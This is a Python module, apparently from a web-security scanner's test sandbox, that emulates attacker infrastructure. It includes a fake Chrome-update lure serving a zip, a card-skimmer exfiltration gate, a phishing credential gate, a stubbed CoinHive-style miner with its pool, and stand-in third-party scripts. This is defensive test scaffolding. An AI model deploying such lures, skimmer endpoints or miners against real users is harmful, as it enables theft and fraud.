        f"o.innerHTML={json.dumps(overlay)};document.body.appendChild(o);"
        "document.body.style.overflow='hidden';}"
        "if(document.body){show()}else{document.addEventListener('DOMContentLoaded',show)}"
        "})();"
    )


@behaviour("attacker-fakeupdate")
async def attacker_fakeupdate(env: Env) -> Result:
    if env.path == "/report":
        _log(env, "report")
        return js(fake_update_overlay(env))
    if env.path == "/download/Chrome.Update.zip":
        _log(env, "download")
        return Reply(
            payloads.fake_update_zip(),
            content_type="application/zip",
            headers={"Content-Disposition": 'attachment; filename="Chrome.Update.zip"'},
        )
    return None


GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")


@behaviour("attacker-skimmer")
async def attacker_skimmer(env: Env) -> Result:
    if env.path == "/gate.php":
        data = await env.request.read() if env.request.can_read_body else b""
        _log(env, "exfil", (data or env.request.query.get("d", "").encode())[:4096].decode())
        return Reply(GIF, content_type="image/gif", headers={"Access-Control-Allow-Origin": "*"})
    if env.path == "/ping.gif":
        _log(env, "ping")
        return Reply(GIF, content_type="image/gif")
    return None


@behaviour("attacker-phishgate")
async def attacker_phishgate(env: Env) -> Result:
    if env.path == "/gate/next.php":
        if env.request.method == "POST":
            form = await env.request.post()
            _log(env, "credentials", sorted(form.keys()))
        return Reply("", status=302, headers={"Location": "https://www.example.com/"})
    return None


MINER_JS = """/* CoinHive-compatible miner (synthetic sandbox sample: it hashes nothing) */
var CoinHive = window.CoinHive || {};
CoinHive.CONFIG = {LIB_URL: "%(lib)s/lib/", WEBSOCKET_SHARDS: [["%(pool)s/proxy"]],
  CAPTCHA_URL: "", MINER_URL: ""};
CoinHive.Anonymous = function (siteKey, params) {
  this._siteKey = siteKey; this._throttle = (params && params.throttle) || 0;
  this._hashes = 0; this._socket = null;
};
CoinHive.Anonymous.prototype.start = function () {
  var self = this, ws = new WebSocket(CoinHive.CONFIG.WEBSOCKET_SHARDS[0][0]);
  this._socket = ws;
  ws.onopen = function () {
    ws.send(JSON.stringify({type: "auth", params: {site_key: self._siteKey,
      type: "anonymous", user: null, goal: 0}}));
  };
  ws.onmessage = function (ev) {
    var msg = JSON.parse(ev.data);
    if (msg.type === "job") { self._cryptonight(msg.params); }
  };
};
CoinHive.Anonymous.prototype._cryptonight = function (job) {
  /* cryptonight_hash would run here in a WebAssembly worker */
  var self = this, nonce = (Math.random() * 0xffffffff) >>> 0;
  setTimeout(function () {
    self._hashes += 16;
    self._socket.send(JSON.stringify({type: "submit", params: {job_id: job.job_id,
      nonce: nonce.toString(16), result: "00".repeat(32)}}));
  }, 500);
};
CoinHive.Anonymous.prototype.getHashesPerSecond = function () { return 32; };
CoinHive.Anonymous.prototype.getTotalHashes = function () { return this._hashes; };
window.CoinHive = CoinHive;
"""


@behaviour("attacker-miner")
async def attacker_miner(env: Env) -> Result:
    if env.path in ("/lib/miner.min.js", "/lib/coinhive.min.js"):
        pool = env.origin(attacker("pool")).replace("http://", "ws://", 1)
        return js(MINER_JS % {"lib": env.atk("miner"), "pool": pool})
    return None


async def serve_websocket(
    env: Env, on_text: Callable[[web.WebSocketResponse, str], Awaitable[bool]]
) -> Result:
    """Upgrade ``env``'s request and hand each text frame to ``on_text`` until it returns
    False: the one WebSocket server of the sandbox (426 to a plain request; tracked so a
    stopping sandbox closes it)."""
    ws = web.WebSocketResponse(heartbeat=None)
    if not ws.can_prepare(env.request).ok:
        return Reply("Upgrade required", status=426, content_type="text/plain")
    await ws.prepare(env.request)
    env.server.track_ws(ws)
    try:
        async for msg in ws:
            if msg.type != WSMsgType.TEXT or not await on_text(ws, msg.data):
                break
    finally:
        await ws.close()
    return ws


@behaviour("attacker-pool")
async def attacker_pool(env: Env) -> Result:
    if env.path != "/proxy":
        return None

    async def on_text(ws: web.WebSocketResponse, text: str) -> bool:
        try:
            data = json.loads(text)
        except ValueError:
            return False
        _log(env, f"pool-{data.get('type')}")
        if data.get("type") == "auth":
            await ws.send_json({"type": "authed", "params": {"token": "", "hashes": 0}})
            await ws.send_json(
                {
                    "type": "job",
                    "params": {
                        "job_id": secrets.token_hex(8),
                        "blob": "0707" + "00" * 74,
                        "target": "711b0d00",
                    },
                }
            )
        elif data.get("type") == "submit":
            await ws.send_json({"type": "hash_accepted", "params": {"hashes": 16}})
        return True

    return await serve_websocket(env, on_text)


@behaviour("attacker-spam")
async def attacker_spam(env: Env) -> Result:
    if env.path == "/" or env.path.startswith("/item/"):
        return Reply("<!doctype html><title>Brand Outlet</title><h1>SALE 90% OFF</h1>")
    return None


# --------------------------------------------------------------------------- third parties

GTM_JS = """/* Google Tag Manager (sandbox stand-in) */
(function(w,d){w.google_tag_manager=w.google_tag_manager||{};
w.google_tag_manager["%(id)s"]={dataLayer:w.dataLayer};
var s=d.createElement("script");s.async=true;s.src="%(ga)s/analytics.js";
var f=d.getElementsByTagName("script")[0];f.parentNode.insertBefore(s,f);})(window,document);
"""

ANALYTICS_JS = """/* analytics.js (sandbox stand-in) */
(function(w,d){w.ga=w.ga||function(){(w.ga.q=w.ga.q||[]).push(arguments)};
var p="%(ga)s/g/collect?v=2&tid=G-SBX42Q7&dl="+encodeURIComponent(d.location.href)
+"&dt="+encodeURIComponent(d.title);
if(navigator.sendBeacon){navigator.sendBeacon(p)}else{new Image().src=p}})(window,document);
"""

JQUERY_JS = (
    "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n"
    "(function(w){function $(s){var e=typeof s==='function'?null:document.querySelectorAll(s);"
    "if(!e){document.readyState==='loading'?document.addEventListener('DOMContentLoaded',s):s();"
    "return}return{addClass:function(c){e.forEach(function(x){x.classList.add(c)});return this}}}"
    "$.fn={jquery:'3.7.1'};w.jQuery=w.$=$;})(window);\n"
)

LODASH_JS = (
    "/** @license Lodash 4.17.21 <https://lodash.com/> (sandbox stand-in) */\n"
    "(function(w){var _={VERSION:'4.17.21'};_.template=function(s){var src=\"var __p='';"
    "__p+='\"+s.replace(/'/g,\"\\\\'\").replace(/<%=([\\s\\S]+?)%>/g,\"'+(($1)==null?'':$1)+'\")"
    "+\"';return __p;\";return Function('obj','with(obj){'+src+'}')};w._=_;})(window);\n"
)


@behaviour("third-party-gtm")
async def third_party_gtm(env: Env) -> Result:
    if env.path == "/gtm.js":
        return js(GTM_JS % {"id": env.request.query.get("id", ""), "ga": env.tp("ga")})
    if env.path == "/ns.html":
        return Reply("<!doctype html><html><body></body></html>")
    return None


@behaviour("third-party-ga")
async def third_party_ga(env: Env) -> Result:
    if env.path == "/analytics.js":
        return js(ANALYTICS_JS % {"ga": env.tp("ga")})
    if env.path == "/g/collect":
        return Reply(b"", status=204, content_type="text/plain")
    return None


@behaviour("third-party-cdnjs")
async def third_party_cdnjs(env: Env) -> Result:
    if env.path == "/ajax/libs/jquery/3.7.1/jquery.min.js":
        return js(JQUERY_JS)
    if env.path == "/ajax/libs/lodash.js/4.17.21/lodash.min.js":
        return js(LODASH_JS)
    return None


@behaviour("third-party-youtube")
async def third_party_youtube(env: Env) -> Result:
    if env.path.startswith("/embed/"):
        return Reply(
            "<!doctype html><html><head><title>YouTube</title></head><body "
            'style="margin:0;background:#000"><div style="color:#fff;padding:40px">'
            "&#9654; Video player</div></body></html>"
        )
    return None


@behaviour("third-party-fonts")
async def third_party_fonts(env: Env) -> Result:
    if env.path == "/css2":
        return Reply(
            "@font-face{font-family:'Lora';font-style:normal;font-weight:400;"
            "src:local('Georgia');}\n",
            content_type="text/css; charset=utf-8",
        )
    return None


# --------------------------------------------------------------------------- security.txt


def security_txt(env: Env, state: str) -> Reply | None:
    """RFC 9116 files: valid (.well-known), legacy (/security.txt only) or expired."""
    if state in pages_contacts.STATES:  # web forms (issue 11)
        return pages_contacts.security_txt(env, state)
    path = env.path
    if state == "legacy" and path != "/security.txt":
        return None
    if state in ("valid", "expired") and path != "/.well-known/security.txt":
        return None
    site = env.site
    domain = registered_domain(site.host)
    expires = "2099-12-31T23:59:59.000Z" if state != "expired" else "2021-12-31T23:59:59.000Z"
    langs = "en" if site.lang == "en" else f"{site.lang}, en"
    body = (
        f"# Security contact for {site.host}\n"
        f"Contact: mailto:security@{domain}\n"
        f"Expires: {expires}\n"
        f"Preferred-Languages: {langs}\n"
        f"Policy: {env.origin(site.host, 'https')}/security-policy/\n"
    )
    return Reply(body, content_type="text/plain; charset=utf-8")


_EXTRACT: Any = None


def registered_domain(host: str) -> str:
    """The registrable domain of ``host`` (tldextract's bundled suffix list, offline)."""
    global _EXTRACT
    if _EXTRACT is None:
        import tldextract

        _EXTRACT = tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None)
    result = _EXTRACT(host)
    if not result.suffix:
        return host
    return f"{result.domain}.{result.suffix}"


@behaviour("scale-payload")
async def scale_payload(env: Env) -> Result:
    """A benchmark payload: kind and Content-Type from the site's tags, unique bytes."""
    if env.path != env.site.entry:
        return None
    if not env.compromised:
        return not_found()
    kind, content_type = env.site.tags[2], env.site.tags[3]
    variant = int(env.site.id.split("-")[1])
    return Reply(payloads.payload_bytes(kind, variant), content_type=content_type)


# Behaviours kept in their own modules register themselves on import.
from tocsin.sandbox import (  # noqa: E402, F401
    pages_browser,
    pages_contacts,
    pages_exfil,
    pages_fp,
    pages_incidents,
)
